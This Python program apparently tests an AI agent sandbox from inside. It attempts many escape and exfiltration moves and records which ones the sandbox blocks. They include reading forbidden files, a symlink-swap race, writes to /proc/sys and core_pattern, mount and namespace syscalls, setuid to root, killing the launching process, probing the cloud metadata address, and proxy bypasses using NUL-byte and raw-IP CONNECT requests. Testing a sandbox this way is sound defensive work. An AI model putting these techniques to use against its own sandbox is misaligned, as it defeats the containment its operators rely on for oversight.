"""What an agent may try in the sandbox: run there as a program, it tries everything and prints what came of it.

Its one argument is JSON: `files` (name -> path of what it must not read), `folders` (where it must not write), `pid`
(of who started it), `secret` (what must not be seen anywhere), `tcp`, `udp` (ports on the host's loopback that must
not be reached), `open` (one that may be), `abstract` (the name of a socket of the host's).
"""

from __future__ import annotations

import ctypes
import errno
import json
import os
import shutil
import socket
import sys
import threading
import urllib.request
from collections.abc import Callable
from pathlib import Path

CLONE_NEWUSER, CLONE_NEWNS, MS_REMOUNT, MS_BIND = 0x10000000, 0x20000, 32, 4096
LIBC = ctypes.CDLL(None, use_errno=True)
CLONE3, KEYCTL = 435, {"x86_64": 250, "aarch64": 219}[os.uname().machine]


def tried(attempt: Callable[[], object]) -> str:
    """Say what came of an attempt: the name of the error, or what it gave."""
    try:
        return str(attempt())
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, type(error).__name__)
    except Exception as error:
        return type(error).__name__


def called(name: str, *arguments: object) -> str:
    """Call the C library and give the name of the error, or what it returned."""
    result = getattr(LIBC, name)(*arguments)
    return errno.errorcode[ctypes.get_errno()] if result == -1 else str(result)


def swapped(target: str) -> str:
    """Swap a link between a file of ours and another's while it is read, and give all that was read."""
    link, mine, seen, stop = Path("link"), Path("mine"), set[str](), threading.Event()
    mine.write_text("mine")

    def swap() -> None:
        while not stop.is_set():
            for goal in (str(mine), target):
                Path("link.new").unlink(missing_ok=True)
                Path("link.new").symlink_to(goal)
                Path("link.new").rename(link)

    link.symlink_to(mine)
    thread = threading.Thread(target=swap)
    thread.start()
    for _ in range(2000):
        seen.add(tried(link.read_text))
    stop.set()
    thread.join()
    for path in (link, mine, Path("link.new")):
        path.unlink(missing_ok=True)
    return " ".join(sorted(seen))


def asked(request: bytes) -> str:
    """Send a request to the proxy and give the first line of its answer."""
    host, _, port = os.environ["HTTPS_PROXY"].removeprefix("http://").partition(":")
    with socket.create_connection((host, int(port)), 10) as line:
        line.sendall(request)
        return line.recv(4096).decode().partition("\r\n")[0]


def all_seen(name: str) -> bytes:
    """Read one file of every process that can be seen."""
    seen = b""
    for process in Path("/proc").glob("[0-9]*"):
        try:
            seen += (process / name).read_bytes()
        except OSError:
            continue
    return seen


def send_udp(host: str, port: int) -> int:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.settimeout(0.2)
        line.sendto(b"out", (host, port))
        return len(line.recv(10))


def connect(address: tuple[str, int] | str) -> str:
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with socket.socket(family) as line:
        line.settimeout(2)
        line.connect(address)
    return "connected"


def link_to(path: str) -> str:
    os.link(path, "hard")
    return "linked"


def write(path: str) -> str:
    Path(path).write_text("was here")
    return "written"


def through_link(path: str) -> str:
    Path("door").symlink_to(path)
    try:
        return write("door")
    finally:
        Path("door").unlink()


def main(told: dict[str, object]) -> dict[str, str]:
    """Try everything."""
    files, folders = dict[str, str](told["files"]), list[str](told["folders"])  # type: ignore[call-overload]
    secret, pid = str(told["secret"]).encode(), int(str(told["pid"]))
    found = {f"read {name}": tried(Path(path).read_text) for name, path in files.items()}
    found |= {f"swap {name}": swapped(path) for name, path in files.items()}
    found |= {f"write in {folder}": tried(lambda folder=folder: write(f"{folder}/planted")) for folder in folders}
    found |= {f"write by link to {name}": tried(lambda path=path: through_link(path)) for name, path in files.items()}
    found["hard link"] = tried(lambda: link_to("/etc/hosts"))
    found["hard link to a secret"] = tried(lambda: link_to(next(iter(files.values()))))
    found["/proc/sys"] = tried(lambda: write("/proc/sys/vm/overcommit_memory"))
    found["core pattern"] = tried(lambda: write("/proc/sys/kernel/core_pattern"))
    found["remount"] = called("mount", b"none", b"/usr", None, MS_REMOUNT | MS_BIND, None)
    found["mount"] = called("mount", b"tmpfs", b"/tmp", b"tmpfs", 0, None)
    found["unmount"] = called("umount2", b"/usr", 2)
    found["user namespace"] = called("unshare", CLONE_NEWUSER)
    found["user and mount namespace"] = called("unshare", CLONE_NEWUSER | CLONE_NEWNS)
    found["mount namespace"] = called("unshare", CLONE_NEWNS)
    found["clone3"] = called("syscall", CLONE3, None, 0)
    found["key ring"] = called("syscall", KEYCTL, 0, -3, 0)
    found["become root"] = called("setuid", 0) if os.getuid() else "is root"
    found["kill"] = tried(lambda: os.kill(pid, 9))
    found["environment"] = str(secret in str(dict(os.environ)).encode() or secret in all_seen("environ"))
    found["processes"] = str(b"--agent-command" in all_seen("cmdline"))
    found["devices"] = " ".join(sorted(set(os.listdir("/dev")) & {"mem", "kmsg", "vda", "sda", "fuse", "kvm"}))  # noqa: PTH208
    found["/sys"] = str(Path("/sys/kernel").exists())
    found["sudo"] = str(shutil.which("sudo") and os.system("sudo -n true 2>/dev/null") == 0)
    found["udp"] = tried(lambda: send_udp("127.0.0.1", int(str(told["udp"]))))
    found["udp out"] = tried(lambda: send_udp("8.8.8.8", 53))
    found["dns"] = tried(lambda: socket.getaddrinfo("example.com", 443))
    found["tcp"] = tried(lambda: connect(("127.0.0.1", int(str(told["tcp"])))))
    found["abstract socket"] = tried(lambda: connect(f"\0{told['abstract']}"))
    found["metadata"] = tried(lambda: connect(("169.254.169.254", 80)))
    found["metadata by proxy"] = asked(b"GET http://169.254.169.254/latest/ HTTP/1.1\r\nHost: x\r\n\r\n")
    found["nul by proxy"] = asked(b"CONNECT evil\0.allowed.example:443 HTTP/1.1\r\n\r\n")
    found["address by proxy"] = asked(b"CONNECT 8.8.8.8:443 HTTP/1.1\r\n\r\n")
    found["loopback by proxy"] = asked(f"CONNECT 127.0.0.1:{told['tcp']} HTTP/1.1\r\n\r\n".encode())
    found["evil by proxy"] = asked(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
    found["base url"] = urllib.request.urlopen(f"http://127.0.0.1:{told['open']}/").read().decode()
    found["user"] = str(os.getuid())
    status = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
    found["rights"] = f"{int(status['CapEff'], 16)} {int(status['CapPrm'], 16)} {status['NoNewPrivs']}"
    found["own places"] = " ".join(
        tried(lambda f=f: write(f"{f}/x")) for f in (".", os.environ["HOME"], "/tmp", "/dev/shm")
    )  # type: ignore[misc]
    found["git"] = str(os.system("git log --oneline >/dev/null && git add -A && git commit -qm mine"))
    return found


if __name__ == "__main__":
    Path("found.json").write_text(json.dumps(main(json.loads(Path(sys.argv[1]).read_text()))))
